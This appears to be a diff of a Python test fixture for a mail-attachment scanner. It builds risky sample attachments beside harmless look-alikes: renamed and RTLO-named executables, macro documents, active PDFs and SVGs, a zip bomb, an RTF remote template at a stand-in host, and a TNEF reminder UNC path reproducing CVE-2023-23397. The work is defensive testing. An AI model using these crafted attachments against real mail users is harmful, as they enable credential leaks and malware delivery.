@@ -3,7 +3,7 @@ import io
 import struct
 import zipfile
 
-from scene import attached, mail, near, scene
+from scene import attached, mail, multipart, near, part, scene
 
 
 def pe():
@@ -60,61 +60,7 @@ def pdf(extra):
 
 
 OPEN = '/OpenAction << /S /JavaScript /JS (var x = 1;) >>'
-REMOTE = ('<Relationships><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" '
-          'Target="http://203.0.113.9/x.dotm"/></Relationships>')
 ISO = b'\0' * 32768 + b'\1CD001\1\0' + b'\0' * 100
-
-# name of the scene, what, file name, octets, findings; and its near miss: what, name, octets
-ROWS = (
-    ('attach-executable', 'a PE header', 'setup.exe', pe(), ['attach.executable'],
-     'a text that begins with MZ', 'notes.txt', b'MZ is how a program begins.\n'),
-    ('attach-executable-renamed', 'a PE header called .pdf', 'invoice.pdf', pe(),
-     ['attach.executable',
-      'attach.type_mismatch'], 'a PDF called .pdf', 'invoice.pdf', pdf('').encode()),
-    ('attach-shortcut', 'a shell link', 'document.lnk', lnk(), ['attach.executable'],
-     'a text called .txt', 'document.txt', b'L is for link.\n'),
-    ('attach-shortcut-zipped', 'a shell link in an archive', 'documents.zip',
-     zipped(('document.lnk', lnk())), ['attach.executable'], 'texts in an archive', 'documents.zip',
-     zipped(('document.txt', 'x\n'))),
-    ('attach-script', 'JavaScript', 'invoice.js', b'var x = 1;\n', ['attach.script'],
-     'a text about it', 'invoice.txt', b'var x = 1;\n'),
-    ('attach-container', 'an image of a disc', 'documents.iso', ISO, ['attach.container'], 'zeros',
-     'zeros.bin', b'\0' * 33000),
-    ('attach-macro-ole', 'a compound file with a VBA storage', 'report.doc',
-     ole('WordDocument', 'VBA',
-         '_VBA_PROJECT'), ['attach.macro'], 'a compound file without', 'report.doc',
-     ole('WordDocument', '1Table')),
-    ('attach-macro-ooxml', 'OOXML with vbaProject.bin', 'report.docm',
-     ooxml(('word/vbaProject.bin', ole('VBA'))), ['attach.macro'], 'OOXML without', 'report.docx',
-     ooxml()),
-    ('attach-macro-template', 'OOXML whose template is elsewhere', 'report.docx',
-     ooxml(('word/_rels/settings.xml.rels', REMOTE)), ['attach.macro'], 'OOXML with a link in it',
-     'report.docx',
-     ooxml(('word/_rels/document.xml.rels', REMOTE.replace('attachedTemplate', 'hyperlink')))),
-    ('attach-encrypted', 'an encrypted archive, the password in the text', 'documents.zip',
-     zipped(('document.txt', 'x\n'),
-            encrypted=True), ['attach.encrypted_archive'], 'an archive', 'documents.zip',
-     zipped(('document.txt', 'x\n'))),
-    ('attach-pdf-active', 'a PDF that runs JavaScript when opened', 'form.pdf', pdf(OPEN).encode(),
-     ['attach.pdf_active'], 'a PDF that speaks of it', 'form.pdf',
-     pdf('/Title (How JavaScript runs in OpenAction)').encode()),
-    ('attach-double-extension', 'two extensions', 'invoice.pdf.exe', pe(),
-     ['attach.double_ext',
-      'attach.executable'], 'a date in the name', 'invoice.2026.pdf', pdf('').encode()),
-    ('attach-rtlo', 'a name turned around by U+202E', 'invoice\u202efdp.exe', pe(),
-     ['attach.rtlo', 'attach.executable'], 'a Hebrew name with a mark (U+200F)',
-     '\u05d7\u05e9\u05d1\u05d5\u05df\u200f.pdf', pdf('').encode()),
-    ('attach-nested', 'archives ten deep', 'deep.zip', None, ['attach.bomb'],
-     'an archive in an archive', 'two.zip', zipped(('one.zip', zipped(('x.txt', 'x\n'))))),
-    ('attach-bomb', 'ten megabytes of zeros in ten kilobytes', 'zeros.zip',
-     zipped(('zeros', b'\0' * 10_000_000)), ['attach.bomb'], 'a text that packs well', 'text.zip',
-     zipped(('text.txt', 'a line of text\n' * 400))),
-    ('attach-svg', 'an SVG with a script', 'logo.svg',
-     b'<svg xmlns="http://www.w3.org/2000/svg" onload="var x = 1"><script>var x = 1</script></svg>',
-     ['attach.script'
-      ], 'an SVG', 'logo.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
-)
-
 
 def deep():
     octets = zipped(('x.txt', 'x\n'))
@@ -123,36 +69,104 @@ def deep():
     return octets
 
 
-def file_scene(name, what, file_name, content, finds, near_what, near_name, near_content):
+def bomb():
+    return zipped(('zeros', b'\0' * 120_000_000))
 
-    @scene(name, what, finds)
+
+SVG = '<svg xmlns="http://www.w3.org/2000/svg"{}>{}<path d="M0 0"/></svg>'
+TEXT = zipped(('document.txt', 'x\n'))
+HEBREW = '\u05d7\u05e9\u05d1\u05d5\u05df\u200f.pdf'
+
+# A scene: its name, what it is, findings; the file's name and octets.  Its near miss: what, name, octets.
+ROWS = (
+    ('executable', 'a PE header', ['attach.executable'], 'setup.exe', pe(),
+     'a text that begins with MZ', 'notes.txt', b'MZ is how a program begins.\n'),
+    ('executable-renamed', 'a PE header called, and declared, a PDF',
+     ['attach.executable', 'attach.type_mismatch'], 'invoice.pdf', pe(),
+     'a PDF', 'invoice.pdf', pdf('')),
+    ('shortcut', 'a shell link', ['attach.container'], 'document.lnk', lnk(),
+     'a text', 'document.txt', b'L is for link.\n'),
+    ('shortcut-zipped', 'a shell link in an archive', ['attach.risky_member'],
+     'documents.zip', zipped(('document.lnk', lnk())),
+     'a text in an archive', 'documents.zip', TEXT),
+    ('script', 'JavaScript', ['attach.risky_name'], 'invoice.js', b'var x = 1;\n',
+     'the same as a text', 'invoice.txt', b'var x = 1;\n'),
+    ('container', 'an image of a disc', ['attach.container'], 'documents.iso', ISO,
+     'zeros', 'zeros.bin', b'\0' * 33000),
+    ('macro-ole', 'a compound file with a VBA storage', ['attach.macro'],
+     'report.doc', ole('WordDocument', 'VBA', '_VBA_PROJECT'),
+     'a compound file without', 'report.doc', ole('WordDocument', '1Table')),
+    ('macro-ooxml', 'OOXML with vbaProject.bin', ['attach.macro'],
+     'report.docm', ooxml(('word/vbaProject.bin', ole('VBA'))),
+     'OOXML without', 'report.docx', ooxml()),
+    ('remote-template', 'RTF whose template is elsewhere', ['attach.remote_template'], 'report.rtf',
+     '{\\rtf1{\\*\\template http://203.0.113.9/x.dotm}Hello.}',
+     'RTF with a template of the own disk', 'report.rtf', '{\\rtf1{\\*\\template normal.dot}Hello.}'),
+    ('encrypted-alone', 'an encrypted archive', ['attach.encrypted_archive'], 'documents.zip',
+     zipped(('document.txt', 'x\n'), encrypted=True), 'an archive', 'documents.zip', TEXT),
+    ('encrypted', 'an encrypted archive, its password in the text', ['attach.encrypted_with_password'],
+     'documents.zip', zipped(('document.txt', 'x\n'), encrypted=True),
+     'an archive', 'documents.zip', TEXT),
+    ('pdf-active', 'a PDF that runs JavaScript when opened', ['attach.pdf_active'],
+     'form.pdf', pdf(OPEN),
+     'a PDF that speaks of it', 'form.pdf', pdf('/Title (How JavaScript runs in OpenAction)')),
+    ('double-extension', 'two extensions', ['attach.double_ext', 'attach.executable'],
+     'invoice.pdf.exe', pe(),
+     'a date in the name', 'invoice.2026.pdf', pdf('')),
+    ('rtlo', 'a name turned around by U+202E', ['attach.rtlo', 'attach.executable'],
+     'invoice\u202efdp.exe', pe(),
+     'a Hebrew name with a mark (U+200F)', HEBREW, pdf('')),
+    ('nested', 'archives ten deep', ['attach.nesting'], 'deep.zip', deep,
+     'an archive in an archive', 'two.zip', zipped(('one.zip', TEXT))),
+    ('bomb', '120 megabytes of zeros in 120 kilobytes', ['attach.bomb'], 'zeros.zip', bomb,
+     'a text that packs well', 'text.zip', zipped(('text.txt', 'a line of text\n' * 400))),
+    ('svg', 'an SVG with a script', ['attach.svg_script'],
+     'logo.svg', SVG.format(' onload="var x = 1"', '<script>var x = 1</script>'),
+     'an SVG', 'logo.svg', SVG.format('', '')),
+)
+TYPES = {'pdf': 'application/pdf', 'svg': 'image/svg+xml', 'txt': 'text/plain'}
+
+
+def send(capture, name, content, text='See the attachment.'):
+    declared = TYPES.get(name.rpartition('.')[2], 'application/octet-stream')
+    content = content() if callable(content) else content
+    mail(capture, multipart(part('text/plain; charset=us-ascii', None, text + '\n', '7bit'),
+                            part(declared, name, content), subject='Documents'))
+
+
+def file_scene(name, what, finds, file_name, content, near_what, near_name, near_content):
+    @scene(f'attach-{name}', what, finds)
     def dangerous(capture):
-        subject = 'The password is correct-horse' if 'encrypted' in name else 'Documents'
-        mail(capture, attached(file_name, deep() if content is None else content, subject=subject))
+        text = 'Password: correct-horse' if name == 'encrypted' else 'See the attachment.'
+        send(capture, file_name, content, text)
 
-    @near(name, near_what)
+    @near(f'attach-{name}', near_what)
     def harmless(capture):
-        mail(capture, attached(near_name, near_content))
+        send(capture, near_name, near_content)
 
 
 for row in ROWS:
     file_scene(*row)
 
 
+def tnef(kind, attribute):
+    """A TNEF stream of one attribute (MS-OXTNEF, section 2.1.3)."""
+    return (struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, kind, len(attribute)) +
+            attribute + struct.pack('<H', sum(attribute) & 0xffff))
+
+
 @scene('attach-tnef-unc', "a reminder's sound on a share (CVE-2023-23397), in TNEF",
-       ['attach.tnef_unc'])
-def tnef(capture):
+       ['attach.reminder_unc'])
+def reminder(capture):
     path = '\\\\203.0.113.9\\share\\x.wav\0'.encode('utf-16-le')
-    properties = struct.pack('<I', 1) + struct.pack('<HH', 0x001f,
-                                                    0x851f) + b'\0' * 16 + struct.pack('<II', 0, 1)
-    properties += struct.pack('<I', len(path)) + path
-    octets = struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, 0x00069003,
-                                                             len(properties)) + properties
-    mail(capture, attached('winmail.dat', octets + b'\0\0', 'application/ms-tnef'))
-
-
-@near('attach-tnef-unc', 'TNEF with a title')
-def tnef_title(capture):
-    octets = struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, 0x00018004,
-                                                             6) + b'Hello\0' + b'\0\0'
+    # PidLidReminderFileParameter, of PSETID_Common, by its number.
+    common = bytes.fromhex('0820060000000000c000000000000046')
+    named = struct.pack('<HH', 0x1f, 0x8001) + common + struct.pack('<II', 0, 0x851f)
+    value = struct.pack('<II', 1, len(path)) + path + b'\0' * (-len(path) % 4)
+    octets = tnef(0x00069003, struct.pack('<I', 1) + named + value)
     mail(capture, attached('winmail.dat', octets, 'application/ms-tnef'))
+
+
+@near('attach-tnef-unc', 'TNEF with a subject')
+def tnef_subject(capture):
+    mail(capture, attached('winmail.dat', tnef(0x00018004, b'Hello\0'), 'application/ms-tnef'))
